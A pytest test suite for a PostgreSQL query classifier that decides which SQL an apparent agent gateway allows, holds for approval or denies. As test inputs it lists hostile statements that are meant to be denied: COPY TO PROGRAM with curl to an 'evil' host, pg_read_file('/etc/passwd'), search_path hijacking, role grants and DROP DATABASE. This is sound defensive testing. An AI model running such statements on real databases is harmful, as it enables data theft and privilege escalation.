"""Unit tests for policy.classifier, using an in-memory function catalog.

Each rule of the classifier gets at least one parametrized case; the
fail-closed property (anything not proven read-only is not ALLOWED) is also
exercised with hypothesis.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pglast import ast, parse_sql

from policy.classifier import (
    CATALOG_INTROSPECTION_FUNCTIONS,
    MAX_VIEW_NESTING,
    Classification,
    ExplainOptions,
    Risk,
    UnparsableStatement,
    Verdict,
    classify,
    explain_options,
)
from policy.exposure import ANY_SCHEMA, EXPOSING_OBJECTS, ExposingObject, ObjectKind
from policy.lineage import DictCatalog

ALLOWED, HELD, DENIED = Verdict.ALLOWED, Verdict.HELD, Verdict.DENIED

# A small stand-in for pg_proc: (schema, name) -> volatility.
CATALOG_ROWS: Mapping[tuple[str, str], str] = {
    ("pg_catalog", "now"): "s",
    ("pg_catalog", "count"): "i",
    ("pg_catalog", "sum"): "i",
    ("pg_catalog", "lower"): "i",
    ("pg_catalog", "upper"): "i",
    ("pg_catalog", "coalesce"): "i",
    ("pg_catalog", "row_number"): "i",
    ("pg_catalog", "generate_series"): "i",
    ("pg_catalog", "extract"): "s",
    ("pg_catalog", "timezone"): "s",
    ("pg_catalog", "current_setting"): "s",
    ("pg_catalog", "nextval"): "v",
    ("pg_catalog", "random"): "v",
    ("pg_catalog", "pg_sleep"): "v",
    ("pg_catalog", "pg_read_file"): "v",
    ("pg_catalog", "set_config"): "v",
    ("pg_catalog", "query_to_xml"): "s",
    ("pg_catalog", "pg_terminate_backend"): "v",
    ("public", "dblink"): "v",
    ("public", "safe_fn"): "i",
    ("reports", "monthly"): "s",
    ("reports", "pg_read_file"): "s",
    ("reports", "odd"): "x",
}


@dataclass(frozen=True)
class FakeCatalog:
    """FunctionCatalog over a dict; unqualified names search pg_catalog, public."""

    rows: Mapping[tuple[str, str], str] = field(default_factory=lambda: CATALOG_ROWS)
    search_path: tuple[str, ...] = ("pg_catalog", "public")

    def volatility(self, schema: str | None, name: str) -> str | None:
        """Most volatile match, mirroring SnapshotFunctionCatalog's contract."""
        if schema is not None:
            return self.rows.get((schema, name))
        found = [self.rows[(s, name)] for s in self.search_path if (s, name) in self.rows]
        return max(found, key="isv".index) if found else None


@dataclass
class RecordingCatalog:
    """Records every lookup so tests can see what the classifier asked."""

    calls: list[tuple[str | None, str]] = field(default_factory=list)

    def volatility(self, schema: str | None, name: str) -> str | None:
        """Answer 'immutable' for everything, remembering the question."""
        self.calls.append((schema, name))
        return "i"


CATALOG = FakeCatalog()


def run(sql: str) -> Classification:
    """Classify with the fake catalog."""
    return classify(sql, CATALOG)


def case(
    sql: str,
    verdict: Verdict,
    approvals: int | None = None,
    risk: Risk | None = None,
    reason: str | None = None,
) -> pytest.ParameterSet:
    """One parametrized expectation; None means "not checked"."""
    return pytest.param(sql, verdict, approvals, risk, reason, id=sql[:60])


def check(
    sql: str,
    verdict: Verdict,
    approvals: int | None,
    risk: Risk | None,
    reason: str | None,
) -> None:
    """Assert a classification matches an expectation row."""
    result = run(sql)
    assert result.verdict is verdict, result.reasons
    if approvals is not None:
        assert result.approvals_required == approvals, result.reasons
    if risk is not None:
        assert result.risk is risk, result.reasons
    if reason is not None:
        assert any(reason in text for text in result.reasons), result.reasons


# --------------------------------------------------------------------------
# Reads
# --------------------------------------------------------------------------

READS = [
    case("SELECT 1", ALLOWED, 0, Risk.LOW),
    case("select * from patients", ALLOWED, 0, Risk.LOW),
    case("select p.id, v.at from patients p join visits v on v.patient_id = p.id", ALLOWED),
    case("select * from patients where id in (select patient_id from visits)", ALLOWED),
    case("with recent as (select * from visits) select count(*) from recent", ALLOWED),
    case("with recursive n(i) as (select 1 union all select i + 1 from n where i < 5) select * from n", ALLOWED),
    case("select id from a union select id from b except select id from c", ALLOWED),
    case("select id from a intersect all select id from b", ALLOWED),
    case("values (1, 'a'), (2, 'b')", ALLOWED),
    case("table patients", ALLOWED),
    case("select now(), count(*), lower(name) from patients group by name", ALLOWED),
    case("select row_number() over (partition by lower(a) order by upper(b)) from t", ALLOWED),
    case("select sum(x) filter (where lower(y) = 'a') from t having count(*) > 1", ALLOWED),
    case("select * from t, lateral (select lower(t.a)) s", ALLOWED),
    case("select * from generate_series(1, 3)", ALLOWED),
    case("select current_date, current_user, current_timestamp, localtime", ALLOWED),
    case("select extract(year from now()), 'x' at time zone 'utc'", ALLOWED),
    case("select coalesce(a, 1) from t order by lower(b) limit 5 offset 1", ALLOWED),
    case("select pg_catalog.lower('X')", ALLOWED),
    case("select safe_fn()", ALLOWED),
    case("select reports.monthly()", ALLOWED),
    case("select current_setting('timezone')", ALLOWED),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), READS)
def test_reads(sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None) -> None:
    """Reads calling only immutable/stable functions run at once."""
    check(sql, verdict, approvals, risk, reason)


UNSAFE_FUNCTIONS = [
    case("select nextval('s')", HELD, 1, Risk.MODERATE, "volatile function nextval() may have side effects"),
    case("select random()", HELD, 1, Risk.MODERATE, "volatile function random()"),
    case("select pg_sleep(10)", HELD, 1, Risk.MODERATE, "volatile function pg_sleep()"),
    case("select no_such_fn()", HELD, 1, Risk.MODERATE, "unknown function no_such_fn()"),
    case("select other.lower('x')", HELD, 1, None, "unknown function other.lower()"),
    case("select reports.odd()", HELD, 1, None, "unrecognised volatility"),
    case("select * from t where id = (select nextval('s'))", HELD),
    case("select * from t order by random()", HELD),
    case("select a from t group by a having count(*) > random()", HELD),
    case("select row_number() over (order by random()) from t", HELD),
    case("select * from t window w as (partition by random())", HELD),
    case("with x as (select nextval('s')) select * from x", HELD),
    case("select * from nextval('s')", HELD),
    case("select * from rows from (generate_series(1, 2), nextval('s')) r", HELD),
    case("select * from t, lateral (select random()) r", HELD),
    case("values (random())", HELD),
    case("select * from t limit (select nextval('s'))", HELD),
    case("select array[random()]", HELD),
    case("select case when random() > 0.5 then 1 end", HELD),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), UNSAFE_FUNCTIONS)
def test_volatile_and_unknown_functions_are_held(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """Any volatile or unknown call anywhere in a read holds it."""
    check(sql, verdict, approvals, risk, reason)


DENIED_FUNCTIONS = [
    case("select pg_read_file('/etc/passwd')", DENIED, 0, Risk.CRITICAL, "function pg_read_file() is denied"),
    case("select pg_catalog.pg_read_file('/etc/passwd')", DENIED),
    case("select * from t where x = (select pg_read_file('f'))", DENIED),
    case("with f as (select pg_read_file('f')) select * from f", DENIED),
    case("select * from t where pg_read_file('f') is not null", DENIED),
    case("select * from t order by pg_read_file('f')", DENIED),
    case("select * from pg_read_file('f')", DENIED),
    case("select * from t, lateral (select pg_ls_dir('.')) d", DENIED),
    case("select set_config('search_path', 'evil', false)", DENIED, None, None, "function set_config() is denied"),
    case("select pg_catalog.set_config('search_path', '', false)", ALLOWED),  # pg_dump's first statement
    case("select * from t where a in (select set_config('x', 'y', true))", DENIED),
    case("select query_to_xml('delete from t', true, true, '')", DENIED, None, None, "query_to_xml() is denied"),
    case("with q as (select query_to_xml('select 1', true, true, '')) select * from q", DENIED),
    case("select public.dblink('host=x', 'delete from t')", DENIED),
    case("select ext.dblink_exec('delete from t')", DENIED),
    case("select pg_terminate_backend(123)", DENIED),
    case("select lo_export(1, '/tmp/x')", DENIED),
    case("select pg_replication_origin_create('x')", DENIED),
    case("select pg_create_logical_replication_slot('s', 'p')", DENIED),
    case("select ts_stat('select v from t')", DENIED),
    case("delete from t where a = pg_read_file('f')", DENIED),
    case("insert into t values (pg_read_file('f'))", DENIED),
    case("update t set a = 1 returning pg_read_file('f')", DENIED),
    case("create table t (a text default pg_read_file('f'))", DENIED),
    case("create view v as select pg_read_file('f')", DENIED),
    case("explain select pg_read_file('f')", DENIED),
    case("copy (select pg_read_file('f')) to stdout", DENIED),
    case("declare c cursor for select pg_read_file('f')", DENIED),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), DENIED_FUNCTIONS)
def test_denylisted_functions_are_denied_anywhere(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """Denylisted functions deny the request however deeply they are nested."""
    check(sql, verdict, approvals, risk, reason)


def test_denylist_ignores_same_name_in_user_schema() -> None:
    """reports.pg_read_file is the user's own stable function, not the built-in."""
    result = run("select reports.pg_read_file()")
    assert result.verdict is ALLOWED


SELECT_WRITES = [
    case(
        "with d as (delete from t where id = 1 returning *) select * from d",
        HELD,
        1,
        Risk.MODERATE,
        'writable CTE "d" runs DELETE',
    ),
    case(
        "with d as (delete from t returning *) select * from d",
        HELD,
        2,
        Risk.CRITICAL,
        "DELETE without WHERE affects every row",
    ),
    case("with i as (insert into t values (1) returning id) select * from i", HELD, 1),
    case("with u as (update t set a = 1 where b = 2 returning *) select count(*) from u", HELD),
    case("select * from t for update", HELD, 1, Risk.MODERATE, "SELECT ... FOR UPDATE takes row locks"),
    case("select * from t for share", HELD, 1, None, "FOR SHARE"),
    case("select * from t for no key update of t nowait", HELD, None, None, "FOR NO KEY UPDATE"),
    case("select * from t where id in (select id from u for key share)", HELD),
    case("select * into new_table from t", HELD, 2, Risk.HIGH, "SELECT INTO creates a table"),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), SELECT_WRITES)
def test_selects_that_write_or_lock_are_held(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """Writable CTEs, row locks and SELECT INTO are not reads."""
    check(sql, verdict, approvals, risk, reason)


# --------------------------------------------------------------------------
# Writes and schema changes
# --------------------------------------------------------------------------

WRITES = [
    case("delete from t where id = 1", HELD, 1, Risk.MODERATE, "DELETE modifies data"),
    case("delete from t", HELD, 2, Risk.CRITICAL, "DELETE without WHERE affects every row"),
    case("update t set a = 1 where id = 2", HELD, 1, Risk.MODERATE, "UPDATE modifies data"),
    case("update t set a = 1", HELD, 2, Risk.CRITICAL, "UPDATE without WHERE affects every row"),
    case("insert into t (a) values (1)", HELD, 1, Risk.MODERATE, "INSERT modifies data"),
    case("insert into t select * from u", HELD, 1),
    case(
        "merge into t using s on t.id = s.id when matched then update set a = s.a",
        HELD,
        1,
        Risk.MODERATE,
        "MERGE modifies data",
    ),
    case("truncate t", HELD, 2, Risk.CRITICAL, "TRUNCATE"),
    case("truncate table a, b cascade", HELD, 2, Risk.CRITICAL),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), WRITES)
def test_data_changes_are_held(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """DML is held; unrestricted UPDATE/DELETE and TRUNCATE need two approvers."""
    check(sql, verdict, approvals, risk, reason)


DDL = [
    case("create table t (id int primary key)", HELD, 2, Risk.MODERATE, "CREATE TABLE"),
    case("create temp table t (id int)", HELD, 2),
    case("alter table t add column b int", HELD, 2, Risk.MODERATE, "ALTER TABLE"),
    case("alter table t rename to u", HELD, 2, None, "RENAME"),
    case("alter table t rename column a to b", HELD, 2),
    case("drop table t", HELD, 2, Risk.CRITICAL, "DROP TABLE"),
    case("drop index i", HELD, 2),
    case("create index on t (a)", HELD, 2, None, "CREATE INDEX"),
    case("create view v as select * from t", HELD, 2, None, "CREATE VIEW"),
    case("create materialized view m as select * from t", HELD, 2, None, "CREATE MATERIALIZED VIEW"),
    case("refresh materialized view m", HELD, 2, None, "REFRESH MATERIALIZED VIEW"),
    case("create table t2 as select * from t", HELD, 2, None, "CREATE TABLE AS"),
    case("create sequence s", HELD, 2),
    case("alter sequence s restart", HELD, 2),
    case("create function f() returns int language sql as 'select 1'", HELD, 2, None, "CREATE FUNCTION"),
    case("create procedure p() language sql as 'select 1'", HELD, 2, None, "CREATE PROCEDURE"),
    case("create trigger tr before insert on t for each row execute function f()", HELD, 2),
    case("create type mood as enum ('ok', 'sad')", HELD, 2),
    case("create domain d as int check (value > 0)", HELD, 2),
    case("create schema s", HELD, 2, None, "CREATE SCHEMA"),
    case("comment on table t is 'patients'", HELD, 2, None, "COMMENT"),
    case("create policy p on t using (true)", HELD, 2),
    case("alter table t alter column a set default random()", HELD, 2),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), DDL)
def test_schema_changes_are_held_for_two(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """DDL is held with two approvals."""
    check(sql, verdict, approvals, risk, reason)


DENIED_STATEMENTS = [
    case("drop database phi", DENIED, 0, Risk.CRITICAL, "DROP DATABASE"),
    case("create database x", DENIED),
    case("alter database x set work_mem = '1GB'", DENIED),
    case("alter database x rename to y", DENIED),
    case("alter system set log_statement = 'none'", DENIED, 0, Risk.CRITICAL, "ALTER SYSTEM"),
    case("create role r", DENIED, None, None, "CREATE ROLE"),
    case("create user u with password 'x'", DENIED),
    case("create group g", DENIED),
    case("alter role r with superuser", DENIED),
    case("alter role r set search_path = evil", DENIED),
    case("drop role r", DENIED),
    case("grant admin to agent", DENIED),
    case("revoke admin from agent", DENIED),
    case("grant select on patients to public", DENIED, None, None, "GRANT"),
    case("revoke select on patients from agent", DENIED),
    case("alter default privileges grant select on tables to agent", DENIED),
    case("reassign owned by a to b", DENIED),
    case("drop owned by a", DENIED),
    case("create extension dblink", DENIED, None, None, "CREATE EXTENSION"),
    case("alter extension dblink update", DENIED),
    case("drop extension dblink", DENIED),
    case("load 'auto_explain'", DENIED),
    case("create tablespace ts location '/tmp'", DENIED),
    case("drop tablespace ts", DENIED),
    case("create language plperlu", DENIED),
    case("create event trigger e on ddl_command_start execute function f()", DENIED),
    case("create server s foreign data wrapper postgres_fdw", DENIED),
    case("create foreign data wrapper w", DENIED),
    case("create user mapping for agent server s options (user 'x')", DENIED),
    case("import foreign schema public from server s into local", DENIED),
    case("create subscription s connection 'x' publication p", DENIED),
    case("alter subscription s disable", DENIED),
    case("create publication p for all tables", DENIED),
    case("alter publication p add table t", DENIED),
    case("security label on table t is 'secret'", DENIED),
    case("checkpoint", DENIED),
    case("prepare transaction 'tx'", DENIED),
    case("commit prepared 'tx'", DENIED),
    case("rollback prepared 'tx'", DENIED),
    case("copy t to program 'curl http://evil'", DENIED, 0, Risk.CRITICAL, "PROGRAM"),
    case("copy t from program 'cat /etc/passwd'", DENIED, 0, Risk.CRITICAL, "PROGRAM"),
    case("copy t to '/tmp/patients.csv'", DENIED, 0, Risk.CRITICAL, "server file"),
    case("copy t from '/etc/passwd'", DENIED, None, None, "server file"),
    case("set role admin", DENIED, 0, Risk.CRITICAL, "ROLE"),
    case("set session authorization admin", DENIED, None, None, "SESSION AUTHORIZATION"),
    case("reset role", DENIED),
    case("reset session authorization", DENIED),
    case("set local role admin", DENIED),
    case("prepare q as select * from t", DENIED, None, None, "PREPARE"),
    case("execute q", DENIED, None, None, "EXECUTE"),
    case("explain execute q", DENIED),
    case("alter table t owner to bob", DENIED, None, None, "OWNER TO"),
    case("alter view v owner to bob", DENIED),
    case("alter function f() owner to bob", DENIED, None, None, "OWNER TO"),
    case("alter schema s owner to bob", DENIED),
    case("create schema s create table t (a int) grant select on t to bob", DENIED),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), DENIED_STATEMENTS)
def test_dangerous_statements_are_denied(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """Server-level, privilege and identity changes can never be approved."""
    check(sql, verdict, approvals, risk, reason)


REVIEWED = [
    case("copy t to stdout", HELD, 1, Risk.MODERATE, "COPY is held for review"),
    case("copy t from stdin", HELD, 1, Risk.MODERATE, "COPY is held for review"),
    case("copy (select * from t) to stdout with (format csv)", HELD, 1),
    case("copy (delete from t returning *) to stdout", HELD, 2, Risk.CRITICAL),
    case("do $$ begin delete from t; end $$", HELD, 2, Risk.HIGH, "DO runs procedural code that cannot be inspected"),
    case("call archive_patients()", HELD, 2, Risk.HIGH, "CALL"),
    case("lock table t in access exclusive mode", HELD, 1, Risk.MODERATE),
    case("vacuum t", HELD, 1, Risk.MODERATE),
    case("vacuum full", HELD, 1),
    case("analyze t", HELD, 1),
    case("cluster t using i", HELD, 1),
    case("reindex table t", HELD, 1),
    case("notify channel, 'x'", HELD, 1),
    case("listen channel", HELD, 1),
    case(
        "set constraints all deferred",
        HELD,
        1,
        Risk.MODERATE,
        "statement type SET CONSTRAINTS is not on the read-only allowlist",
    ),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), REVIEWED)
def test_other_statements_are_held(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """COPY via the client, procedural code, maintenance and the unknown are held."""
    check(sql, verdict, approvals, risk, reason)


# --------------------------------------------------------------------------
# EXPLAIN, cursors, session statements
# --------------------------------------------------------------------------

EXPLAINS = [
    case("explain select * from t", ALLOWED, 0, Risk.LOW),
    case("explain delete from t", ALLOWED, 0, Risk.LOW),
    case("explain update t set a = 1 where id = 2", ALLOWED),
    case("explain insert into t values (1)", ALLOWED),
    case("explain create table t2 as select * from t", ALLOWED),
    case("explain select nextval('s')", ALLOWED),
    case("explain select * from t for update", ALLOWED),
    case("explain (format json, costs off) delete from t", ALLOWED),
    case("explain (analyze off) delete from t", ALLOWED),
    case("explain (analyze false) delete from t", ALLOWED),
    case("explain select no_such_fn()", HELD, 1, None, "unknown function no_such_fn()"),
    case("explain analyze select * from t", ALLOWED, 0, Risk.LOW),
    case("explain analyze delete from t", HELD, 2, Risk.CRITICAL, "DELETE without WHERE affects every row"),
    case("explain analyze delete from t where id = 1", HELD, 1, Risk.MODERATE),
    case("explain (analyze) select nextval('s')", HELD, 1),
    case("explain (analyze true, buffers) update t set a = 1 where b = 2", HELD, 1),
    case("explain (analyze 1) delete from t where id = 1", HELD, 1),
    case("explain select pg_read_file('f')", DENIED),
    case("explain analyze select set_config('a', 'b', false)", DENIED),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), EXPLAINS)
def test_explain(sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None) -> None:
    """Plain EXPLAIN only plans; EXPLAIN ANALYZE is judged like its statement."""
    check(sql, verdict, approvals, risk, reason)


SESSION = [
    case("show search_path", ALLOWED, 0, Risk.LOW),
    case("show all", ALLOWED),
    case("discard all", ALLOWED),
    case("deallocate all", ALLOWED),
    case("fetch 10 from c", ALLOWED),
    case("move next in c", ALLOWED),
    case("close c", ALLOWED),
    case("close all", ALLOWED),
    case("declare c cursor for select * from t", ALLOWED, 0, Risk.LOW),
    case("declare c cursor with hold for select lower(a) from t", ALLOWED),
    case("declare c cursor for select nextval('s')", HELD, 1),
    case("declare c cursor for select * from t for update", HELD, 1),
    case("set statement_timeout = 5000", ALLOWED, 0, Risk.LOW),
    case("SET Statement_Timeout TO '5s'", ALLOWED),
    case("set local lock_timeout = '1s'", ALLOWED),
    case("set statement_timeout to default", ALLOWED),
    case("reset statement_timeout", ALLOWED),
    case("reset all", ALLOWED),
    case("set time zone 'UTC'", ALLOWED),
    case("set names 'UTF8'", ALLOWED),
    case("set schema 'reports'", DENIED),  # SET SCHEMA is SET search_path: names would resolve elsewhere
    case("set schema 'public'", ALLOWED),  # the policy's own path: names resolve where the policy resolves them
    case("set transaction isolation level serializable", ALLOWED),
    case("set transaction read only", ALLOWED),
    case("set session characteristics as transaction read only", ALLOWED),
    case("set work_mem = '1GB'", DENIED, 0, Risk.CRITICAL, "setting work_mem cannot be changed through the gateway"),
    case("set some_other_guc = 1", DENIED, None, None, "setting some_other_guc"),
    case("set myapp.tenant = 'x'", DENIED),
    case("set session_replication_role = replica", DENIED),
    case("reset work_mem", DENIED),
    case("set xmloption = content", DENIED),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), SESSION)
def test_session_statements(
    sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None
) -> None:
    """Cursor, SHOW and allowlisted SET statements run; other settings are denied."""
    check(sql, verdict, approvals, risk, reason)


@pytest.mark.parametrize(
    "setting",
    [
        "application_name",
        "client_encoding",
        "DateStyle",
        "IntervalStyle",
        "TimeZone",
        "extra_float_digits",
        "statement_timeout",
        "lock_timeout",
        "idle_in_transaction_session_timeout",
        "bytea_output",
        "client_min_messages",
        "standard_conforming_strings",
    ],
)
def test_every_allowlisted_setting_may_be_set(setting: str) -> None:
    """The SET allowlist is case-insensitive, as PostgreSQL setting names are."""
    value = "'UTF8'" if setting == "client_encoding" else "'x'"
    assert run(f"set {setting} = {value}").verdict is ALLOWED
    assert run(f'set "{setting.upper()}" = {value}').verdict is ALLOWED


@pytest.mark.parametrize(
    ("sql", "verdict"),
    [
        ("set search_path = reports, public", DENIED),
        ("set local search_path to evil", DENIED),
        ("set search_path = default", ALLOWED),
        ("set search_path = ''", ALLOWED),  # pg_dump: only pg_catalog, every other name qualified
        ("set search_path = pg_catalog", ALLOWED),
        ("set search_path = public", ALLOWED),  # a prefix of the policy's path resolves nothing elsewhere
        ("set search_path = public, reports", DENIED),
        ("reset search_path", ALLOWED),
        ("set client_encoding = 'LATIN1'", DENIED),
        ("set names 'SQL_ASCII'", DENIED),
        ("set client_encoding to 'utf-8'", ALLOWED),
        ("set names 'UTF8'", ALLOWED),
        ("reset client_encoding", ALLOWED),
    ],
)
def test_settings_the_policy_relies_on_only_keep_their_value(sql: str, verdict: Verdict) -> None:
    """Another search path makes names mean other relations than lineage read; another client encoding makes
    PostgreSQL fail, or not, on a PHI value's characters (an error oracle)."""
    assert run(sql).verdict is verdict


@pytest.mark.parametrize(
    ("sql", "tag"),
    [
        ("begin", "BEGIN"),
        ("begin isolation level repeatable read", "BEGIN"),
        ("start transaction read only", "START TRANSACTION"),
        ("commit", "COMMIT"),
        ("end", "COMMIT"),
        ("rollback", "ROLLBACK"),
        ("abort", "ROLLBACK"),
        ("savepoint a", "SAVEPOINT"),
        ("release savepoint a", "RELEASE"),
        ("rollback to savepoint a", "ROLLBACK TO"),
    ],
)
def test_transaction_control_alone_is_allowed(sql: str, tag: str) -> None:
    """A lone transaction-control statement is allowed and flagged as such."""
    result = run(sql)
    assert result.verdict is ALLOWED
    assert result.risk is Risk.LOW
    assert result.approvals_required == 0
    assert result.is_transaction_control is True
    assert result.statement_types == (tag,)


def test_two_phase_commit_is_not_transaction_control() -> None:
    """PREPARE TRANSACTION is denied and not treated as ordinary control."""
    result = run("prepare transaction 'x'")
    assert result.verdict is DENIED
    assert result.is_transaction_control is False


@pytest.mark.parametrize("sql", ["select 1", "delete from t", "show all"])
def test_other_statements_are_not_transaction_control(sql: str) -> None:
    """is_transaction_control is only set for transaction statements."""
    assert run(sql).is_transaction_control is False


# --------------------------------------------------------------------------
# Batches
# --------------------------------------------------------------------------

BATCHES = [
    case("SELECT 1; SELECT 2", HELD, 1, Risk.LOW, "multiple statements in one request"),
    case("select * from t; delete from t where id = 1", HELD, 1, Risk.MODERATE),
    case("insert into t values (1); delete from t", HELD, 2, Risk.CRITICAL, "DELETE without WHERE affects every row"),
    case("select 1; create table t (a int)", HELD, 2, Risk.MODERATE),
    case("SELECT 1; DROP DATABASE x", DENIED, 0, Risk.CRITICAL, "DROP DATABASE"),
    case("select 1; select pg_read_file('f')", DENIED, 0, Risk.CRITICAL),
    case(
        "BEGIN; DELETE FROM t; COMMIT",
        DENIED,
        0,
        Risk.CRITICAL,
        "transaction control inside a statement batch is not allowed",
    ),
    case("SELECT 1; COMMIT", DENIED, 0, Risk.CRITICAL, "transaction control"),
    case("savepoint a; select 1", DENIED),
    case("select 1;;select 2;", HELD, 1),
]


@pytest.mark.parametrize(("sql", "verdict", "approvals", "risk", "reason"), BATCHES)
def test_batches(sql: str, verdict: Verdict, approvals: int | None, risk: Risk | None, reason: str | None) -> None:
    """Batches are never allowed, and never mix with transaction control."""
    check(sql, verdict, approvals, risk, reason)


def test_batch_reasons_list_each_statements_concerns() -> None:
    """A held batch explains itself and every statement that needs approval."""
    result = run("select nextval('s'); delete from t where id = 1")
    assert result.reasons == (
        "multiple statements in one request",
        "volatile function nextval() may have side effects",
        "DELETE modifies data",
    )
    assert result.statement_types == ("SELECT", "DELETE")
    assert result.is_transaction_control is False


def test_denied_batch_keeps_all_reasons() -> None:
    """A denied batch still shows the held statements' reasons."""
    result = run("delete from t; drop database x")
    assert result.reasons[0] == "multiple statements in one request"
    assert "DELETE without WHERE affects every row" in result.reasons
    assert any("DROP DATABASE" in reason for reason in result.reasons)


# --------------------------------------------------------------------------
# Unparsable input
# --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "",
        "   \n\t ",
        "-- just a comment",
        "/* block */",
        ";",
        ";;  ;",
        "selec 1",
        "select from where",
        "select 'unterminated",
        "select 1\x00; drop database x",
        "select '\ud800'",
        "select " + "+".join(["1"] * 5000),
        " union ".join(["select 1"] * 30000),
    ],
    ids=lambda sql: repr(sql[:30]),
)
def test_unparsable_input_raises(sql: str) -> None:
    """Syntax errors, empty input, NULs and absurd nesting are rejected."""
    with pytest.raises(UnparsableStatement):
        run(sql)


def test_unparsable_message_comes_from_the_parser() -> None:
    """The message is PostgreSQL's own, with the position it reported."""
    with pytest.raises(UnparsableStatement) as caught:
        run("select 1 frm t")
    assert 'syntax error at or near "t"' in str(caught.value)
    assert caught.value.position == 13
    assert isinstance(caught.value, ValueError)


# --------------------------------------------------------------------------
# Reported details
# --------------------------------------------------------------------------


def test_relations_are_lower_cased_qualified_sorted_and_exclude_ctes() -> None:
    """Relations appear as written (lower-cased); CTE names are not relations."""
    result = run(
        'with recent as (select * from "Visits") '
        "select * from Public.Patients p join recent r on r.pid = p.id "
        "join public.patients q on q.id = p.id, audit.log"
    )
    assert result.relations == ("audit.log", "public.patients", "visits")


def test_cte_shadowing_a_table_is_scoped() -> None:
    """Inside a non-recursive CTE its own name still means the real table."""
    result = run("with patients as (select * from patients) select * from patients")
    assert result.relations == ("patients",)
    nested = run("select * from (with x as (select 1) select * from x) s, x")
    assert nested.relations == ("x",)


def test_recursive_cte_does_not_count_itself() -> None:
    """A recursive CTE's self-reference is not a relation."""
    result = run("with recursive r(n) as (select 1 union all select n + 1 from r where n < 3) select * from r")
    assert result.relations == ()


def test_dml_target_is_a_relation_even_when_a_cte_has_its_name() -> None:
    """INSERT INTO x always writes the real table x."""
    result = run("with t as (select 1 as a) insert into t select a from t")
    assert result.relations == ("t",)


def test_relations_of_writes_and_ddl() -> None:
    """Targets of DML, COPY, TRUNCATE and DROP are reported too."""
    assert run("delete from phi.notes where id = 1").relations == ("phi.notes",)
    assert run("truncate a, b.c").relations == ("a", "b.c")
    assert run("drop table if exists public.t, u").relations == ("public.t", "u")
    assert run("copy t to stdout").relations == ("t",)


def test_lock_targets_are_not_relations() -> None:
    """FOR UPDATE OF names aliases, not relations."""
    assert run("select * from patients p for update of p").relations == ("patients",)


def test_functions_are_reported_qualified_when_written() -> None:
    """Every call is listed once, sorted, qualified only when written so."""
    result = run("select lower(a), pg_catalog.lower(b), count(*), extract(year from now()) from t where lower(c) = 'x'")
    assert result.functions == ("count", "extract", "lower", "now", "pg_catalog.lower")


def test_catalog_is_asked_with_the_written_schema() -> None:
    """Qualified calls are looked up in their schema, others unqualified, once each."""
    catalog = RecordingCatalog()
    classify("select lower(a), lower(b), reports.monthly(), pg_catalog.now()", catalog)
    assert catalog.calls == [(None, "lower"), ("reports", "monthly"), ("pg_catalog", "now")]


def test_statement_types() -> None:
    """One command tag per statement."""
    assert run("select 1").statement_types == ("SELECT",)
    assert run("delete from t").statement_types == ("DELETE",)
    assert run("create table t (a int)").statement_types == ("CREATE TABLE",)
    assert run("begin").statement_types == ("BEGIN",)
    assert run("drop view v").statement_types == ("DROP VIEW",)
    assert run("create materialized view m as select 1").statement_types == ("CREATE MATERIALIZED VIEW",)
    assert run("select 1 into t").statement_types == ("SELECT INTO",)
    assert run("explain select 1").statement_types == ("EXPLAIN",)


def test_fingerprint_ignores_case_and_whitespace() -> None:
    """Equivalent statements share a fingerprint; different ones do not."""
    assert run("select 1").fingerprint == run("SELECT  1").fingerprint
    assert run("select 1").fingerprint != run("select * from t").fingerprint


def test_reasons_are_deduplicated_in_order() -> None:
    """Repeated findings are reported once, in the order found."""
    result = run("select nextval('a'), random(), nextval('b')")
    assert result.reasons == (
        "volatile function nextval() may have side effects",
        "volatile function random() may have side effects",
    )


def test_allowed_and_denied_need_no_approvals() -> None:
    """approvals_required is zero unless the verdict is HELD."""
    assert run("select 1").approvals_required == 0
    assert run("drop database x").approvals_required == 0


def test_denied_findings_outrank_held_ones_in_one_statement() -> None:
    """A write that also calls a denylisted function is denied, with both reasons."""
    result = run("delete from t where id = 1 and pg_read_file('x') <> ''")
    assert result.verdict is DENIED
    assert result.risk is Risk.CRITICAL
    assert result.reasons[0] == "DELETE modifies data"
    assert "function pg_read_file() is denied" in result.reasons[1]


def test_classification_is_deterministic_and_immutable() -> None:
    """Same input, same answer; the result cannot be altered."""
    sql = "with d as (delete from t returning *) select nextval('s'), x() from d, u"
    assert run(sql) == run(sql)
    with pytest.raises(AttributeError):
        run(sql).verdict = ALLOWED  # type: ignore[misc]


# --------------------------------------------------------------------------
# Properties
# --------------------------------------------------------------------------


@settings(max_examples=500, deadline=None)
@given(st.text())
def test_arbitrary_text_classifies_or_is_unparsable(text: str) -> None:
    """No input makes classify fail with anything but UnparsableStatement."""
    try:
        result = run(text)
    except UnparsableStatement:
        return
    assert isinstance(result, Classification)


_KEYWORDS = ["select", "insert", "into", "update", "delete", "from", "where", "with", "as", "values", "set"]
